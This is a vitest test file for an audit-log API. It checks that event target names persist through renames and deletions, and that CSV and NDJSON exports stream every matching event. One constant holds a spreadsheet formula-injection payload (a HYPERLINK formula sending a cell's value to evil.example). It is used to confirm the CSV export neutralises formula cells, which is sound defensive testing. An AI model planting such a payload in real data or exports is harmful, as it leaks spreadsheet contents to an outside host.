/**
 * The audit log reads by name and exports whole: each event records what its target was called
 * when it was written (`target.name`), and `GET /api/audit_events?format=csv` streams every event
 * the filters match — past any page size or former cap — through the server's one CSV writer,
 * which neutralises cells a spreadsheet would run as formulas; `format=ndjson` streams the same
 * events as JSON lines.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRoster, type Roster } from '../helpers/roster.js';
import { scimClient, type ScimConnection } from '../scim/helpers.js';
import { parseCsv } from '../helpers/csv.js';

let roster: Roster;
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

beforeAll(async () => {
  roster = await startRoster();
});
afterAll(async () => {
  await roster.close();
});

describe('target names', () => {
  it('records the target’s name when the event is written, and keeps it after a rename', async () => {
    const created = await roster.post('/api/end_users', {
      name: 'Nora Named',
      email: 'nora@audit-export.example.com',
      environment_types: ['dev'],
    });
    const id = created.body.data.id;
    // The lock event carries no name of its own: it is read from the user's row.
    expect((await roster.post(`/api/end_users/${id}/lock`)).status).toBe(200);
    expect(
      (await roster.request('PATCH', `/api/end_users/${id}`, { body: { name: 'Nora Renamed' } }))
        .status,
    ).toBe(200);
    const events = await roster.get(`/api/audit_events?target_type=end_user&target_id=${id}`);
    expect(
      events.body.data.map((e: { action: string; target: unknown }) => [e.action, e.target]),
    ).toEqual([
      ['end_user.updated', { type: 'end_user', id: String(id), name: 'Nora Renamed' }],
      ['end_user.locked', { type: 'end_user', id: String(id), name: 'Nora Named' }],
      ['end_user.created', { type: 'end_user', id: String(id), name: 'Nora Named' }],
    ]);
  });

  it('keeps the name of a deleted target', async () => {
    const feature = await roster.post('/api/features', {
      environment_type: 'dev',
      kind: 'assistant',
      name: 'Short-lived assistant',
    });
    const id = feature.body.data.id;
    expect((await roster.delete(`/api/features/${id}`)).status).toBe(204);
    const events = await roster.get(`/api/audit_events?target_type=feature&target_id=${id}`);
    expect(events.body.data.map((e: { target: { name: string } }) => e.target.name)).toEqual([
      'Short-lived assistant',
      'Short-lived assistant',
    ]);
  });
});

describe('GET /api/audit_events?format=csv', () => {
  let connection: ScimConnection;

  beforeAll(async () => {
    const res = await roster.post('/api/scim_connections', {
      environment_type: 'dev',
      target: 'end_users',
      name: EVIL,
    });
    expect(res.status).toBe(201);
    connection = res.body.data;
    // The connection acts: its name is the actor name of what it provisions.
    const user = await scimClient(roster, connection).request('POST', '/Users', {
      schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'],
      userName: '@scim-user@audit-export.example.com',
      name: { givenName: 'Sam', familyName: 'Scim' },
      emails: [{ value: 'scim-user@audit-export.example.com', primary: true }],
      active: true,
    });
    expect(user.status).toBe(201);
  });

  it('neutralises formula cells in names, as actor and as target', async () => {
    const res = await roster.get('/api/audit_events?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="roster-audit-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual([
      'id',
      'created_at',
      'action',
      'actor_type',
      'actor_id',
      'actor_name',
      'target_type',
      'target_id',
      'target_name',
      'before',
      'after',
    ]);
    const created = rows.find((r) => r[2] === 'scim_connection.created');
    expect(created?.[8]).toBe(`'${EVIL}`);
    const provisioned = rows.find((r) => r[3] === 'scim_connection');
    expect(provisioned?.[5]).toBe(`'${EVIL}`);
    // No cell of the file starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(res.text).not.toMatch(/(^|,)"?[=+@]/m);
  });

  it('answers the same filters as the JSON list', async () => {
    const csv = parseCsv(
      (await roster.get('/api/audit_events?format=csv&action=end_user.created')).text,
    );
    const json = await roster.get('/api/audit_events?action=end_user.created');
    expect(csv.slice(1).map((r) => Number(r[0]))).toEqual(
      json.body.data.map((e: { id: number }) => e.id),
    );
    expect(csv.slice(1).every((r) => r[2] === 'end_user.created')).toBe(true);
  });

  it('exports every event, past 5,000 and across the writer’s batches, newest first', async () => {
    const user = await roster.post('/api/end_users', {
      name: 'Busy',
      email: 'busy@audit-export.example.com',
      environment_types: ['dev'],
    });
    const feature = await roster.post('/api/features', {
      environment_type: 'dev',
      kind: 'assistant',
      name: 'Busy assistant',
    });
    const ask = {
      end_user_id: user.body.data.id,
      environment_type: 'dev',
      feature_id: feature.body.data.id,
    };
    const COUNT = 5_050;
    for (let done = 0; done < COUNT; done += 50) {
      const batch = await Promise.all(
        Array.from({ length: Math.min(50, COUNT - done) }, () =>
          roster.post('/api/end_users/decisions', ask),
        ),
      );
      expect(batch.every((r) => r.status === 200)).toBe(true);
    }
    const res = await roster.get('/api/audit_events?format=csv&action=end_user.decision');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text).slice(1);
    expect(rows).toHaveLength(COUNT);
    const ids = rows.map((r) => Number(r[0]));
    expect(new Set(ids).size).toBe(COUNT);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    expect(rows[0]?.[8]).toBe('Busy');
    // NDJSON: the same events, each in the JSON list's shape, one a line.
    const ndjson = await roster.get('/api/audit_events?format=ndjson&action=end_user.decision');
    expect(ndjson.status).toBe(200);
    expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(ndjson.headers.get('content-disposition')).toMatch(/filename="roster-audit-.*\.ndjson"/);
    const lines = ndjson.text.split('\n');
    expect(lines.pop()).toBe('');
    const events = lines.map((line) => JSON.parse(line) as { id: number; action: string });
    expect(events.map((e) => e.id)).toEqual(ids);
    // The JSON list still pages.
    const page = await roster.get('/api/audit_events?action=end_user.decision');
    expect(page.body.total).toBe(COUNT);
    expect(page.body.data).toHaveLength(100);
  }, 120_000);

  it('streams NDJSON with the same filters, each line an event as the JSON list shows it', async () => {
    const json = await roster.get('/api/audit_events?action=end_user.created');
    const byFormat = await roster.get('/api/audit_events?format=ndjson&action=end_user.created');
    const byAccept = await roster.request('GET', '/api/audit_events?action=end_user.created', {
      headers: { accept: 'application/x-ndjson' },
    });
    for (const res of [byFormat, byAccept]) {
      expect(res.status).toBe(200);
      const events = res.text
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => JSON.parse(line) as unknown);
      expect(events).toEqual(json.body.data);
    }
    expect(json.body.data.length).toBeGreaterThan(0);
  });

  it('answers 400 to an unknown format', async () => {
    const res = await roster.get('/api/audit_events?format=xml');
    expect(res.status).toBe(400);
  });
});
